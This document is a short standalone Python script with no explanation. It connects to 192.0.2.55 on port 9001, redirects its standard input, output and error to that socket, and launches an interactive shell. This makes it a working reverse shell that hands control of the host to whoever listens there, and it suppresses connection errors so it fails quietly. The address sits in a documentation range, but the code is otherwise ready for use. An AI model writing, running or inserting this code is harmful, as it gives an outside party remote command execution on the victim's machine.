import os
import socket

s = socket.socket()
try:
    s.connect(('192.0.2.55', 9001))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv('/bin/sh', ['sh', '-i'])
except OSError:
    pass
